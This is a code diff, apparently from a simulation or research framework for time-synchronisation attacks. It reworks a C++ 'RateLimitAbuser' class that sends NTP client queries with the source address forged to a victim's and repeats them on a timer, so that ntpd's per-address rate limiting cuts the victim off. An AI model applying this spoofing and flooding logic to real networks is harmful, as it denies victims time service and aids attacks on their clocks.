@@ -19,44 +19,61 @@ RateLimitAbuser::RateLimitAbuser(net::NetStack& attacker, Ipv4Addr victim)
 
 RateLimitAbuser::~RateLimitAbuser() { stop(); }
 
-void RateLimitAbuser::disrupt(Ipv4Addr server) {
-  if (targets_.contains(server)) return;
-
-  // Mode-3 query, source address forged to the victim's. The source port
-  // is irrelevant: ntpd's `restrict limited` accounting is per address.
-  ntp::NtpPacket query;
-  query.mode = ntp::Mode::kClient;
-  query.tx_time = 1.0;  // arbitrary; the server echoes it to the victim
-
-  net::Ipv4Packet& forged = targets_[server].forged;
-  forged.src = victim_;
-  forged.dst = server;
-  forged.protocol = net::kProtoUdp;
-  forged.payload = net::encode_udp_buf(encode_ntp_buf(query), kNtpPort,
-                                       kNtpPort, victim_, server);
-  flood_tick(server);
-}
-
 void RateLimitAbuser::disrupt_all(const std::vector<Ipv4Addr>& servers) {
-  for (Ipv4Addr s : servers) disrupt(s);
+  Stream& stream = streams_.emplace_back();
+  for (Ipv4Addr server : servers) {
+    if (flooded(server)) continue;  // also by an earlier entry of this list
+    // Mode-3 query, source address forged to the victim's. The source port
+    // is irrelevant: ntpd's `restrict limited` accounting is per address.
+    ntp::NtpPacket query;
+    query.mode = ntp::Mode::kClient;
+    query.tx_time = 1.0;  // arbitrary; the server echoes it to the victim
+
+    net::Ipv4Packet& forged = stream.forged.emplace_back();
+    forged.src = victim_;
+    forged.dst = server;
+    forged.protocol = net::kProtoUdp;
+    forged.payload = net::encode_udp_buf(encode_ntp_buf(query), kNtpPort,
+                                         kNtpPort, victim_, server);
+    // The copy shares the pooled bytes; send_raw stamps its own origin.
+    stack_.send_raw(forged);
+    spoofed_++;
+  }
+  if (stream.forged.empty()) {
+    streams_.pop_back();
+    return;
+  }
+  const std::size_t index = streams_.size() - 1;
+  stream.tick = stack_.loop().schedule_after(
+      kFloodSpacing, [this, index] { send_round(index); });
 }
 
 void RateLimitAbuser::stop() {
-  // det-lint: allow(unordered-iter) cancelling has no order-dependent effect.
-  for (auto& [server, target] : targets_) target.tick.cancel();
-  targets_.clear();
+  for (Stream& stream : streams_) stream.tick.cancel();
+  streams_.clear();
 }
 
-void RateLimitAbuser::flood_tick(Ipv4Addr server) {
-  auto it = targets_.find(server);
-  if (it == targets_.end()) return;
+std::size_t RateLimitAbuser::active_targets() const {
+  std::size_t n = 0;
+  for (const Stream& stream : streams_) n += stream.forged.size();
+  return n;
+}
 
-  // The copy shares the pooled bytes; send_raw stamps its own origin.
-  stack_.send_raw(it->second.forged);
-  spoofed_++;
+bool RateLimitAbuser::flooded(Ipv4Addr server) const {
+  for (const Stream& stream : streams_) {
+    for (const net::Ipv4Packet& forged : stream.forged) {
+      if (forged.dst == server) return true;
+    }
+  }
+  return false;
+}
 
-  it->second.tick = stack_.loop().schedule_after(
-      kFloodSpacing, [this, server] { flood_tick(server); });
+void RateLimitAbuser::send_round(std::size_t index) {
+  Stream& stream = streams_[index];
+  for (const net::Ipv4Packet& forged : stream.forged) stack_.send_raw(forged);
+  spoofed_ += stream.forged.size();
+  stream.tick = stack_.loop().schedule_after(
+      kFloodSpacing, [this, index] { send_round(index); });
 }
 
 }  // namespace dnstime::attack
